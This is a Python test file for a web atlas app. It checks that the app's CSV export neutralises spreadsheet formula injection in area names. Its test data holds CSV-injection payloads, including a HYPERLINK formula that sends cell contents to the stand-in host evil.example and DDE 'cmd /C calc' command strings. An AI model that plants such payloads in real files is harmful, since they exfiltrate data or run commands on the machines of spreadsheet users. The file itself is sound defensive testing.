"""The CSV the web writes is spreadsheet-safe (``aankomst.csvsafe``): on a copy of the demo atlas
whose area names are formulas (CSV injection), the export quotes every text and neutralises
every cell a spreadsheet would read as a formula — with the file's own separator and with the
``;`` a Belgian spreadsheet uses to open it."""

from __future__ import annotations

import csv
import io

import pytest
from web_support import client_for

pytest.importorskip("fastapi")

NASTY = {
    "96001": ('=HYPERLINK("http://evil.example/?x="&A1;"x")', "+cmd|' /C calc'!A0"),
    "97001": ("@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"),
    "98001": ("Aalstrode;=1+1", "-2+3"),
}
TRIGGERS = tuple("=+-@\t\r")


@pytest.fixture(scope="module")
def nasty_atlas(demo_atlas_path, tmp_path_factory):
    import shutil

    import duckdb

    db = tmp_path_factory.mktemp("csv") / "nasty.duckdb"
    shutil.copy(demo_atlas_path, db)
    con = duckdb.connect(str(db))
    for code, (nl, fr) in NASTY.items():
        con.execute("UPDATE areas SET name_nl = ?, name_fr = ? WHERE code = ?", [nl, fr, code])
    con.close()
    return db


def test_export_csv_neutralises_formulas(nasty_atlas):
    from aankomst.csvsafe import restore

    with client_for(nasty_atlas) as c:
        r = c.get("/api/export", params={"indicator": "population", "level": "municipality", "period": "2015"})
    assert r.status_code == 200, r.text[:300]
    rows = {x["area_code"]: x for x in csv.DictReader(io.StringIO(r.text))}
    for code, (nl, fr) in NASTY.items():
        for got, original in ((rows[code]["area_name"], nl), (rows[code]["area_name_fr"], fr)):
            assert not got.startswith(TRIGGERS) and restore(got) == original
    assert rows["96001"]["area_name"] == "'" + NASTY["96001"][0]
    assert rows["97001"]["area_name_fr"] == "'\t'=1+1"  # a tab also starts a cell
    assert rows["98001"]["area_name"] == "Aalstrode;'=1+1"  # a cell for a ';'-reading spreadsheet
    assert float(rows["96001"]["value"]) > 0  # numbers stay numbers
    # every text field is quoted: read with the file's separator, one cell per field
    lines = r.text.splitlines()
    assert all(len(row) == len(next(csv.reader(lines[:1]))) for row in csv.reader(lines))
    # a spreadsheet opening the file with ';' never sees a cell that starts a formula
    for row in csv.reader(io.StringIO(r.text), delimiter=";"):
        for cell in row:
            assert not cell.lstrip('" ').startswith(TRIGGERS), cell


def test_export_geojson_keeps_names_as_data(nasty_atlas):
    with client_for(nasty_atlas) as c:
        fc = c.get("/api/export", params={"indicator": "population", "level": "municipality", "period": "2015",
                                          "format": "geojson"}).json()
    props = {f["id"]: f["properties"] for f in fc["features"]}
    assert props["96001"]["name_nl"] == NASTY["96001"][0]  # JSON is not read as formulas: unchanged
